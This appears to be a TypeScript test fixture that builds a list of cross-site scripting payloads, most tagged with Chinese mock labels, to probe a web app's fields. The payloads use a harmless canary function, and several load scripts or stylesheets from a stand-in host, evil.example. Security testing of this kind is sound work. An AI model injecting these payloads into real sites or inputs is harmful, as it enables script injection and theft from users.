/** What a page must never run: each ends in a mark of its own, so that it can be found on a screen. `X()` is the canary of the browser. */
const WRITTEN: readonly string[] = [
  // Short enough for a name or a label.
  '<svg/onload=X()>',
  '<b onclick=X()>王',
  '"onfocus=X() a="',
  "'-X()-'",
  '{{X()}}李',
  'javascript:X()',
  '<img/src/onerror=X()>',
  // Elements that run by themselves.
  '<script>X()</script>老干部局',
  '<SCRIPT/x>X()</SCRIPT/x>广场社区',
  '<scr<script>ipt>X()</scr</script>ipt>',
  '<script src=//evil.example/a.js></script>张建国',
  '<script type=module>import("data:text/javascript,X()")</script>',
  '<img src=x onerror=X()>邢侗街道',
  '<img src="x" onerror="X&#40;&#41;">水利局',
  '<IMG SRC=`x` ONERROR=X()>离休',
  '<image href=x onerror=X()>',
  '<video><source onerror=X()></video>合唱队',
  '<audio src=x onerror=X()>戏曲',
  '<body onload=X()>退休干部',
  '<details open ontoggle=X()>慰问',
  '<marquee onstart=X()>通知</marquee>',
  '<input autofocus onfocus=X()>座谈会',
  '<select autofocus onfocus=X()><option>选</select>',
  '<div style="animation:a 1s" onanimationstart=X()>支部',
  '<p onpointerrawupdate=X() onmouseover=X()>党员</p>',
  '<iframe srcdoc="<script>top.X()</script>"></iframe>',
  '<iframe src="javascript:top.X()"></iframe>家属',
  '<object data="data:text/html;base64,PHNjcmlwdD50b3AuWCgpPC9zY3JpcHQ+"></object>',
  '<embed src="javascript:X()">名册',
  '<link rel=stylesheet href=//evil.example/a.css>',
  '<style>@import"//evil.example/b.css";*{color:red}</style>',
  '<base href=//evil.example/>大桥社区',
  '<meta http-equiv=refresh content="0;url=javascript:X()">',
  '<form action=javascript:X()><button>查</button></form>',
  '" onmouseover="X()" autofocus onfocus="X()" x="',
  "' onmouseover='X()' style='animation:a' '",
  '"><script>X()</script><a title="',
  "'><img src=x onerror=X()><a title='",
  '` onerror=X() `',
  '甲" style="background:url(//evil.example/c)" b="',
  '</textarea></title></option><svg onload=X()>',
  '--></script><script>X()</script><!--',
  ']]><svg onload=X()><![CDATA[',
  '<svg><script>X()</script></svg>花园小区',
  '<svg><animate onbegin=X() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:X()"><text y=20>点这里</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=X()>#x"/></svg>',
  '<math><mtext><table><mglyph><style><img src onerror=X()></style>',
  '<math href="javascript:X()">算一算</math>',
  '<svg></p><style><a id="</style><img src onerror=X()>">',
  '<a href="javascript:X()">看病历</a>',
  '<a href="java\tscript:X()">电话</a>',
  '&#106;avascript&colon;X()//地址',
  'data:text/html;charset=utf-8,<script>X()</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="X()"/>',
  // What engines of templates, of JSON and of texts unfold.
  // oxlint-disable-next-line no-template-curly-in-string -- what a template engine would take for its own
  '${X()}#{X()}<%= X() %>{{constructor.constructor("X()")()}}孙丽',
  '&lt;svg onload=X()&gt;&amp;lt;img src=x onerror=X()&amp;gt;赵',
  '\\u003csvg onload=X()\\u003e\\x3cimg src=x onerror=X()\\x3e',
  // What reads from right to left, what is not seen, and what never ends.
  '\u202e<svg onload=X()>\u202c局部\u200b干\u200d老\ufeff',
  `${'<div title="层">'.repeat(9)}<img src=x onerror=X()>${'<b>'.repeat(9)}深`,
]

const markOf = (at: number): string => `毒${String(at).padStart(2, '0')}`
export const MARK = /毒\d\d/g

export const SCRIPTS: readonly string[] = WRITTEN.map((text, at) => text + markOf(at))
/** Each time another one: some fields take a text once. */
export const probe = (turn: number): string => `<svg/onload=X()>${turn.toString(36)}`

/** An element that takes what follows it for its own words would hide the next script: after it a new value is begun. */
const SWALLOWS = /<!--|<!\[CDATA|<(textarea|title|style|script|xmp|noscript|select|iframe|object)\b/i

/** Texts of at most so many characters that bring every script that fits at all, several in one where there is room. */
export function loadsFor(most: number): string[] {
  const loads: string[] = []
  let isOpen = false
  for (const script of SCRIPTS.filter((one) => one.length <= most)) {
    const last = loads.at(-1) ?? ''
    if (isOpen && last.length + script.length <= most) loads[loads.length - 1] = last + script
    else loads.push(script)
    isOpen = !SWALLOWS.test(script)
  }
  return loads
}
